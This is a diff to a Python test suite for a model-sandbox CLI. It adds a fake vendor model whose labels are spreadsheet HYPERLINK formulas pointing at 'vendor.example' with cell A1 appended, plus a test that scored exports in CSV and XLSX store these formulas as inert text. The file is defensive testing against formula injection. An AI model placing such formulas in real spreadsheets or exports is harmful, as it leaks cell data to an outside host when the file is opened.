@@ -22,8 +22,10 @@ FORMAT = "sandbox-predictions/1"
 
 def forge(model_input):
     import json, os, struct, sys
-    case = str(model_input["case"].iloc[0])
     rows = len(model_input)
+    if "case" not in model_input.columns:  # submitted and scored like any model: labels a spreadsheet would run
+        return ['=HYPERLINK("http://vendor.example/?"&A1,"查看")'] * rows
+    case = str(model_input["case"].iloc[0])
     if case == "labels":  # honest text labels through the normal path
         return ["是" if v % 2 else "否" for v in model_input["x"]]
     if case == "long_label":
@@ -143,3 +145,27 @@ def test_vendor_text_cannot_rewrite_the_terminal(home, forger) -> None:
     assert error.key == "models.child_failed" and "审计通过" in text
     assert not any(ch in text for ch in "\x1b\r\n\u202e\x07")
     assert "\\u001b[2J" in text and "\\u202e" in text
+
+
+def test_formula_labels_are_inert_in_exported_scores(people, forger, data_csv, tmp_path) -> None:
+    """A registered model whose labels are spreadsheet formulas: ``models score --out`` writes them as text."""
+    import openpyxl
+    import pandas as pd
+    from typer.testing import CliRunner
+
+    from models import service
+    from sandbox.cli import app
+    from tests.models.models_testkit import PASSWORD, card
+
+    submitted = service.submit_model(actor=people["vendor_a"], artifact=forger, card=card())
+    formula = '=HYPERLINK("http://vendor.example/?"&A1,"查看")'
+    for suffix in (".csv", ".xlsx"):
+        out = tmp_path / f"scores{suffix}"
+        result = CliRunner().invoke(app, ["models", "score", f"{submitted['name']}/1", "--data", str(data_csv),
+                                          "--out", str(out), "--as", "reviewer"], env={"SANDBOX_PASSWORD": PASSWORD})
+        assert result.exit_code == 0, result.output
+        if suffix == ".csv":
+            assert set(pd.read_csv(out, encoding="utf-8-sig")["预测"]) == {"'" + formula}
+        else:
+            cells = [row[1] for row in openpyxl.load_workbook(out).active.iter_rows(min_row=2)]
+            assert {(c.data_type, c.value) for c in cells} == {("s", formula)}   # a string cell, never a formula
